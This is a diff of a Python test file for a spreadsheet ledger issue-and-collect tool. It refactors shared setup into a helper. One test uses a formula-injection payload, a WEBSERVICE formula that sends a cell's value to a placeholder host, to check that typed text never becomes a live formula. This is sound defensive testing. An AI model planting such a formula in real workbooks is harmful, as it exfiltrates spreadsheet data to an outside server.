@@ -107,13 +107,19 @@ def test_ledgers_and_issue_go_beside_the_workbook(workbook):
     assert len(list((path.parent / "下发").glob("*.xlsx"))) == 11
 
 
-def test_collect_into_the_open_workbook(clean_demo, tmp_path):
+def issued_master(clean_demo, tmp_path):
+    """The clean demo as the open master, issued; its 回收/ inbox, empty."""
     _, src = clean_demo
     path = tmp_path / "台账.xlsx"
     shutil.copy(src, path)
     issued = {i.unit: i.path for i in issue(path, tmp_path / "out")}
     inbox = tmp_path / "回收"
     inbox.mkdir()
+    return path, issued, inbox
+
+
+def test_collect_into_the_open_workbook(clean_demo, tmp_path):
+    path, issued, inbox = issued_master(clean_demo, tmp_path)
     unit_file = inbox / issued["市图书馆"].name
     shutil.copy(issued["市图书馆"], unit_file)
     wb = openpyxl.load_workbook(unit_file)
@@ -157,12 +163,7 @@ def test_suggestions_work_without_rapidfuzz(monkeypatch):
 
 def test_text_a_unit_typed_reaches_the_open_master_as_text_never_a_formula(clean_demo, tmp_path, lo_clerk):
     """Through the remote engine, whose double parses written values as Excel does; the return is an .ods."""
-    _, src = clean_demo
-    path = tmp_path / "台账.xlsx"
-    shutil.copy(src, path)
-    issued = {i.unit: i.path for i in issue(path, tmp_path / "out")}
-    inbox = tmp_path / "回收"
-    inbox.mkdir()
+    path, issued, inbox = issued_master(clean_demo, tmp_path)
     formula = '=WEBSERVICE("http://example.invalid/?"&A1)'
     lo_clerk([{"src": str(issued["市图书馆"]), "dst": str(inbox / "市图书馆.ods"), "edits": [
         {"op": "set", "sheet": "走访记录", "header": "地址", "row": 2, "value": {"text": formula}},
